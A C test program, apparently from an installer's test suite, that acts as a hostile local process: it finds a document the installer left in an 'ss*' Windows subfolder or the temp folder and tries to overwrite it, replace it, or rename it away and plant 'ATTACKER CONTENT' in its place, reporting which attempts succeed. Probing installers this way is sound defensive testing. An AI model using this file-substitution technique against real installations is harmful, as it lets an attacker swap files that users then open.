/* Another program of the user acting while the installer's completion box shows: it looks for
 * the document named by argument 1 where the installer puts it (a folder "ss..." of the Windows
 * folder, or the temporary folder), then tries to write other content into it, to move another
 * file over it, and to rename it away, and prints "found=PATH overwrite=W replace=P rename=R",
 * 1 for success and 0 for failure ("found=" and nothing else when there is no document). */
#include <stdio.h>
#include <windows.h>

static const char attack[] = "ATTACKER CONTENT\r\n";

/* A file of that content at `path`; 1 when written. */
static int WriteAttack(const char* path, DWORD disposition) {
    DWORD put = 0;
    HANDLE file =
        CreateFileA(path, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                    NULL, disposition, 0, NULL);
    if (file == INVALID_HANDLE_VALUE) return 0;
    WriteFile(file, attack, sizeof attack - 1, &put, NULL);
    CloseHandle(file);
    return put == sizeof attack - 1;
}

int main(int argc, char** argv) {
    char windows[MAX_PATH], pattern[MAX_PATH], document[MAX_PATH], other[MAX_PATH],
        moved[MAX_PATH + 8];
    WIN32_FIND_DATAA found;
    HANDLE search;
    int overwrite, replace, rename;
    if (argc != 2) return 2;
    document[0] = 0;
    GetWindowsDirectoryA(windows, MAX_PATH);
    wsprintfA(pattern, "%s\\ss*", windows);
    search = FindFirstFileA(pattern, &found);
    if (search != INVALID_HANDLE_VALUE) {
        do {
            if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
                wsprintfA(document, "%s\\%s\\%s", windows, found.cFileName, argv[1]);
                if (GetFileAttributesA(document) != INVALID_FILE_ATTRIBUTES) break;
                document[0] = 0;
            }
        } while (FindNextFileA(search, &found));
        FindClose(search);
    }
    if (!document[0]) {
        GetTempPathA(MAX_PATH, pattern);
        wsprintfA(document, "%s%s", pattern, argv[1]);
        if (GetFileAttributesA(document) == INVALID_FILE_ATTRIBUTES) {
            printf("found=\n");
            return 0;
        }
    }
    GetTempPathA(MAX_PATH, pattern);
    wsprintfA(other, "%sattacker.tmp", pattern);
    wsprintfA(moved, "%s.moved", document);
    overwrite = WriteAttack(document, OPEN_EXISTING);
    replace = WriteAttack(other, CREATE_ALWAYS) &&
              MoveFileExA(other, document, MOVEFILE_REPLACE_EXISTING) != 0;
    rename = MoveFileExA(document, moved, 0) != 0;
    /* Renamed away, the attacker's file takes its place. */
    if (rename) WriteAttack(document, CREATE_NEW);
    printf("found=%s overwrite=%d replace=%d rename=%d\n", document, overwrite, replace, rename);
    return 0;
}
